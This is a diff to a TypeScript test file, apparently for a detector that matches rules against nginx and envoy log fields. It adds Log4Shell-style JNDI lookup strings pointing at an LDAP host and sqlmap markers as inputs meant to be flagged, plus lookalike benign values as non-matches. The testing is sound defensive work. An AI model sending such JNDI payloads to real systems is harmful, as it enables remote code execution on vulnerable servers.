@@ -81,7 +81,12 @@ test('a rule may ask for any field of the line by its name', () => {
 test.each<[Source, object]>([
   [
     'nginx',
-    { http_x_api_version: '$%7Bjndi:ldap://192.0.2.1/hunter2}', http_cookie: 'sqlmap', http_x_forwarded_for: 'sqlmap' },
+    {
+      http_referer: 'https://app.example/${jndi:ldap://192.0.2.1/hunter2}',
+      http_x_api_version: '$%7Bjndi:ldap://192.0.2.1/hunter2}',
+      http_cookie: 'sqlmap',
+      http_x_forwarded_for: 'sqlmap',
+    },
   ],
   [
     'envoy',
@@ -109,6 +114,11 @@ test.each<[field: string, value: string]>([
   ['referer', 'http://localhost:3000/'],
   ['referer', 'http://127.0.0.1:8080/orders/7'],
   ['referer', 'https://app.example/search'],
+  ['referer', 'https://app.example/docs/package-lock.json'],
+  ['referer', "https://app.example/o'reilly/or/1=1"],
+  ['referer', 'http://[::1]:3000/server-status'],
+  ['origin', 'http://localhost:3000'],
+  ['via', 'HTTP/1.1 proxy'],
   ['referer', 'https://app.example/#/orders/(detail:7)'],
   ['referer', 'android-app://com.example.orders/'],
   ['content_type', 'application/json; charset=utf-8'],
